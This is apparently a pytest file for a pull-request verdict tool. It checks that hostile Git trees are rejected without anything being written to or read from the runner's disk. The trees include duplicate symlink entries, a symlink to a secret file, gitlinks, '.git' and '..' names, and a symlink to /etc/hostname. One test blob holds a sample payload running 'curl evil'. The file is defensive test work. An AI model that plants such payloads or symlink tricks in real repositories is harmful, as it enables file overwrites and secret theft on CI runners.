"""The verdict reads the pull request's head as Git objects in memory: nothing of it is written to the runner's disk, a
symlink, gitlink, duplicate or oddly named entry is a problem named by its path, and nothing is ever followed."""

from __future__ import annotations

import os
import subprocess
import tempfile
from pathlib import Path

import git
import pytest

from committed import commit
from test_verdict import MAINTAINER, gitrepo  # noqa: F401 - the fixture
from zi_evidence.gitfs import GitTree
from zi_evidence.verdict import build_verdict, render_verdict

pytestmark = pytest.mark.slow


def _git(root: Path, *args: str, stdin: bytes | None = None) -> str:
    return subprocess.run(["git", *args], cwd=root, input=stdin, capture_output=True, check=True).stdout.decode().strip()


def graft(root: Path, base: str, folder: str, extra: list[str], message: str = "serangan") -> str:
    """A commit on ``base`` whose tree ``folder`` gets the raw ``git mktree`` lines ``extra`` (duplicates allowed, as a
    hostile client can push them), rebuilt up to the root tree."""
    parts = folder.split("/")
    listing = _git(root, "ls-tree", f"{base}:{folder}")
    sha = _git(root, "mktree", stdin=(listing + "\n" + "\n".join(extra) + "\n").encode())
    for depth in range(len(parts) - 1, -1, -1):
        parent = "/".join(parts[:depth])
        spec = f"{base}:{parent}" if parent else f"{base}^{{tree}}"
        lines = [line for line in _git(root, "ls-tree", spec).splitlines() if line.split("\t", 1)[1] != parts[depth]]
        lines.append(f"040000 tree {sha}\t{parts[depth]}")
        sha = _git(root, "mktree", stdin=("\n".join(lines) + "\n").encode())
    env = dict(os.environ, GIT_AUTHOR_NAME=MAINTAINER, GIT_AUTHOR_EMAIL="a@b.c", GIT_COMMITTER_NAME=MAINTAINER,
               GIT_COMMITTER_EMAIL="a@b.c", GIT_AUTHOR_DATE="2026-11-21T09:00:00 +0700", GIT_COMMITTER_DATE="2026-11-21T09:00:00 +0700")
    return subprocess.run(["git", "commit-tree", sha, "-p", base, "-m", message], cwd=root, env=env, capture_output=True,
                          check=True).stdout.decode().strip()


def blob(root: Path, data: bytes) -> str:
    return _git(root, "hash-object", "-w", "--stdin", stdin=data)


def test_a_symlink_then_an_entry_of_the_same_name_writes_nothing_and_is_named(gitrepo, tmp_path):  # noqa: F811
    root, repo = gitrepo
    victim = tmp_path / "publish.py"  # stands for tooling/zi_evidence/ci/publish.py of the runner
    victim.write_text("ASLI\n")
    link = blob(root, str(tmp_path).encode())
    payload = blob(root, b"import os; os.system('curl evil')\n")
    head = graft(root, "main", "evidence/disdukcapil", [f"120000 blob {link}\tfiles", f"100644 blob {payload}\tfiles"])
    verdict = build_verdict(root, "main", head, MAINTAINER)
    assert victim.read_text() == "ASLI\n" and sorted(p.name for p in tmp_path.iterdir()) == ["publish.py", "repo"]
    assert verdict["state"] == "failure"
    named = {p["file"]: p["message"] for p in verdict["report"]["problems"]}
    assert "symlink" in named["evidence/disdukcapil/files"] or "ganda" in named["evidence/disdukcapil/files"]


def test_a_symlinked_answers_file_never_shows_the_runners_file(gitrepo, tmp_path):  # noqa: F811
    root, repo = gitrepo
    secret = tmp_path / "rahasia.yaml"
    secret.write_text("rules: permenpanrb-90-2021\nanswers:\n  P.MP.1.a: RAHASIA-RUNNER-1234\n")
    repo.git.checkout("-b", "tautan")
    own = root / "units/disdukcapil/lke/2026/self.yaml"
    own.unlink()
    own.symlink_to(secret)
    head = commit(repo, "jawaban lewat tautan", MAINTAINER)
    verdict = build_verdict(root, "main", head, MAINTAINER)
    comment = render_verdict(verdict)
    assert "RAHASIA-RUNNER" not in comment and "RAHASIA-RUNNER" not in repr(verdict)
    assert verdict["state"] == "failure"
    assert any(p["file"] == "units/disdukcapil/lke/2026/self.yaml" and "symlink" in p["message"] for p in verdict["report"]["problems"])


@pytest.mark.parametrize("entry, word", [
    ("160000 commit {commit}\tsub", "submodule"),
    ("100644 blob {blob}\t.git", "ditolak Git"),
    ("100644 blob {blob}\t..", "ditolak Git"),
])
def test_gitlinks_odd_modes_and_refused_names_are_problems_by_path(gitrepo, entry, word):  # noqa: F811
    root, repo = gitrepo
    line = entry.format(commit=repo.head.commit.hexsha, blob=blob(root, b"x: 1\n"))
    head = graft(root, "main", "units/disdukcapil", [line])
    verdict = build_verdict(root, "main", head, MAINTAINER)
    assert verdict["state"] == "failure"
    name = line.split("\t")[1]
    assert any(p["file"] == f"units/disdukcapil/{name}" and word in p["message"] for p in verdict["report"]["problems"]), \
        verdict["report"]["problems"]


def test_the_verdict_writes_no_file_at_all(gitrepo, tmp_path, monkeypatch):  # noqa: F811
    """Not even a temporary one: the head stays Git objects (the sandbox of the PDF scanner gets bytes over a pipe)."""
    root, repo = gitrepo
    repo.git.checkout("-b", "biasa")
    unit = root / "units/disdukcapil/unit.yaml"
    unit.write_text(unit.read_text().replace("Jl. Cendana No. 8", "Jl. Cendana No. 9"))
    head = commit(repo, "alamat", MAINTAINER)
    empty = tmp_path / "tmp"
    empty.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(empty))
    before = {p for p in root.rglob("*")}
    verdict = build_verdict(root, "main", head, MAINTAINER)
    assert verdict["state"] == "success", verdict["report"]["problems"][:3]
    assert list(empty.iterdir()) == []
    assert {p for p in root.rglob("*") if ".git" not in p.relative_to(root).parts[:1]} == {p for p in before if ".git" not in p.relative_to(root).parts[:1]}


def test_git_tree_reads_objects_and_has_no_path_on_disk(gitrepo):  # noqa: F811
    root, repo = gitrepo
    with GitTree(str(repo.git_dir), repo.head.commit.hexsha) as tree:
        unit = tree.root / "units" / "disdukcapil" / "unit.yaml"
        assert unit.is_file() and not unit.is_dir() and "disdukcapil" in unit.read_text()
        assert unit.stat().st_size == len(unit.read_bytes())
        assert [p.name for p in (tree.root / "units").iterdir()][:1]
        assert not (tree.root / "units/tidak-ada.yaml").exists()
        with pytest.raises(TypeError):
            open(unit)  # noqa: SIM115, PTH123 - no __fspath__: nothing reads the runner's disk through it
        with pytest.raises(TypeError):
            Path(unit)
    assert isinstance(repo, git.Repo)


def test_a_unit_cannot_move_its_lke_to_another_rule_set(gitrepo):  # noqa: F811
    """The overlay of another region (or any rule set in rules/) named by the unit's own LKE file: an error naming the
    LKE file and the file that binds the unit's rules, and the score stays the bound rule set's."""
    root, repo = gitrepo
    repo.git.checkout("-b", "aturan-sendiri")
    own = root / "units/disdukcapil/lke/2026/self.yaml"
    own.write_text(own.read_text().replace("rules: permenpanrb-90-2021", "rules: perwal-kupang-23-2025", 1))
    head = commit(repo, "pakai aturan lain", MAINTAINER)
    verdict = build_verdict(root, "main", head, MAINTAINER)
    assert verdict["state"] == "failure"
    bound = [p for p in verdict["report"]["problems"] if "tidak boleh dipilih" in p["message"]]
    assert bound and bound[0]["file"] == "units/disdukcapil/lke/2026/self.yaml" and bound[0]["line"]
    assert "units/disdukcapil/unit.yaml" in bound[0]["message"] or "units/instansi.yaml" in bound[0]["message"]
    unit_report = next(u for u in verdict["report"]["units"] if u["file"] == "units/disdukcapil/lke/2026/self.yaml")
    assert unit_report["after"] is not None  # scored, by the bound rule set


def test_the_walker_sees_a_commits_tree_as_it_sees_the_folder(gitrepo):  # noqa: F811
    """The one walker over a commit read in memory and over the same commit checked out: the same entries, folders,
    symlinks (never followed) and kinds, in the same order; an entry's path is made only when asked, under its folder."""
    from zi_evidence.walker import walk

    root, repo = gitrepo
    (root / "evidence/disdukcapil/tautan.pdf").symlink_to("/etc/hostname")
    (root / "units/disdukcapil/catatan.txt").write_text("x\n")
    repo.git.add(A=True)
    repo.index.commit("symlink dan berkas lain")

    def seen(top) -> list[tuple]:
        return [(e.rel, e.is_dir, e.is_symlink, e.kind, e.name) for e in walk(top)]

    with GitTree(str(repo.git_dir), repo.head.commit.hexsha) as tree:
        in_memory = seen(tree.root)
        entry = next(e for e in walk(tree.root) if e.rel == "units/disdukcapil/unit.yaml")
        assert "disdukcapil" in entry.path.read_text()
    on_disk = seen(root)
    assert in_memory == on_disk and len(on_disk) > 30
    assert ("evidence/disdukcapil/tautan.pdf", False, True, None, "tautan.pdf") in on_disk
    assert ("units/disdukcapil/catatan.txt", False, False, None, "catatan.txt") in on_disk
    assert next(e for e in walk(root) if e.rel == "units/disdukcapil/unit.yaml").path == root / "units/disdukcapil/unit.yaml"
